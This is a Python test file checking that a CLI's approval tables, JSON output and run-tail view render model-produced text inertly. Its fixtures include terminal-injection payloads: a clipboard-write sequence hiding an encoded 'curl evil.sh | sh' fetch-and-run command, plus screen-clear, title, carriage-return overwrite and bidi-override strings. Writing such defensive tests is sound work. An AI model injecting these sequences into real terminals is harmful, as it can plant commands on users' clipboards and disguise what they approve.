"""Model text cannot drive the terminal: no markup, no control sequences reach the screen."""

from __future__ import annotations

import io
import json
import re

import pytest
from rich.console import Console
from typer.testing import CliRunner

from tickwork import cli_resources
from tickwork.run_tree import build_view, render, view_lines
from tickwork.terminal_text import json_line, plain, safe

ESC = "\x1b"
CLIPBOARD = f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: write the clipboard
CLEAR = f"{ESC}[2J{ESC}[H"  # CSI: clear the screen, cursor home
TITLE = f"{ESC}]0;owned{ESC}\\"  # OSC with an ST terminator
C1_CSI = "\x9b2J"  # the 8-bit form of CSI
OVERWRITE = "recipient: boss@example.com\rrecipient: ops@example.com"
BIDI = "send to \u202eevil\u202c"
HOSTILE = [CLIPBOARD, CLEAR, TITLE, C1_CSI, OVERWRITE, BIDI, "bell\x07", "nul\x00", "del\x7f"]
# Whatever a terminal would act on: C0 controls but tab and newline, DEL, C1, bidi overrides.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("text", HOSTILE)
def test_control_characters_become_visible_and_inert(text):
    shown = safe(text)
    assert not CONTROL.search(shown)
    assert len(shown) >= len(text)  # made visible, not silently dropped


def test_ordinary_text_tabs_and_newlines_are_kept():
    text = "Record 1:\tan invoice\nRecord 2: a ticket — ünïcödé, emoji 🚀, [brackets]"
    assert safe(text) == text
    assert safe(CLIPBOARD) == "␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇"
    assert safe(OVERWRITE) == "recipient: boss@example.com␍recipient: ops@example.com"


def test_json_lines_stay_the_same_json_without_raw_controls():
    event = {"payload": {"text": "".join(HOSTILE)}}
    line = json_line(event)
    assert not CONTROL.search(line)
    assert json.loads(line) == event


def test_plain_text_is_never_parsed_as_markup():
    console = Console(file=io.StringIO(), width=200, color_system=None)
    console.print(plain("[/] and [conceal]hidden@example.com[/conceal] [link=x]y[/link]"))
    assert console.file.getvalue().strip() == \
        "[/] and [conceal]hidden@example.com[/conceal] [link=x]y[/link]"


def approvals_output(monkeypatch, arguments: dict) -> str:
    rows = [{"id": "run-1:call-1", "tool": "demo.send_message", "arguments": arguments,
             "status": "pending"}]
    # The renderer under test gets its rows from a stand-in for the HTTP client (no database
    # is involved in drawing a table).
    monkeypatch.setattr(cli_resources.ApiClient, "__init__", lambda self, settings=None: None)
    monkeypatch.setattr(cli_resources.ApiClient, "items", lambda self, path, params=None: rows)
    monkeypatch.setattr(cli_resources, "out", Console(file=io.StringIO(), width=400,
                                                      markup=False, force_terminal=True))
    import typer

    app = typer.Typer()
    app.command()(cli_resources.list_approvals)
    result = CliRunner().invoke(app, [])
    assert result.exit_code == 0, result.output
    return cli_resources.out.file.getvalue()


def test_approvals_show_markup_in_arguments_as_text(monkeypatch):
    shown = approvals_output(monkeypatch, {"recipient": "[conceal]boss@example.com[/conceal]",
                                           "text": "[/] [bold]hi"})
    assert "[conceal]boss@example.com[/conceal]" in shown
    assert "[/] [bold]hi" in shown
    assert "\x1b[8m" not in shown  # rich's conceal style was never applied


def test_approvals_show_terminal_controls_in_arguments_inertly(monkeypatch):
    shown = approvals_output(monkeypatch, {"text": "\x9b2J hi \u202eevil"})
    assert "\x9b" not in shown and "\u202e" not in shown
    assert "\\u009b2J hi \\u202eevil" in shown


def tail_journal(answer: str, argument: str) -> list[dict]:
    def ev(seq, parent, kind, payload):
        return {"seq": seq, "parent_seq": parent, "type": kind, "payload": payload,
                "ts": "2026-01-01T00:00:00Z"}
    return [ev(1, None, "run_start", {"attempt": 1}), ev(2, 1, "step_start", {"turn": 1}),
            ev(3, 2, "tool_start", {"tool": "demo.search_records", "call_id": "c1",
                                    "arguments": {"query": argument}}),
            ev(4, 2, "content_delta", {"text": answer}),
            ev(5, 1, "gate_decision", {"verdict": "done", "reason": CLEAR + "fine"}),
            ev(6, 1, "run_complete", {"status": "completed", "outcome": "done"})]


def test_the_tail_never_prints_a_models_control_sequences():
    journal = tail_journal("Done." + CLIPBOARD + CLEAR + OVERWRITE + C1_CSI, TITLE + "invoices")
    console = Console(file=io.StringIO(), width=300, force_terminal=True)
    console.print(render(build_view("r1", journal)))
    drawn = console.file.getvalue()
    for sequence in (CLIPBOARD, CLEAR, TITLE, "\r", "\x9b", f"{ESC}]"):
        assert sequence not in drawn
    assert "␛]52;c;" in drawn and "␛[2J" in drawn  # shown to the person, inert
    lines = "\n".join(view_lines(build_view("r1", journal)))
    assert not CONTROL.search(lines)
    assert "Done.␛]52;c;" in lines and "invoices" in lines
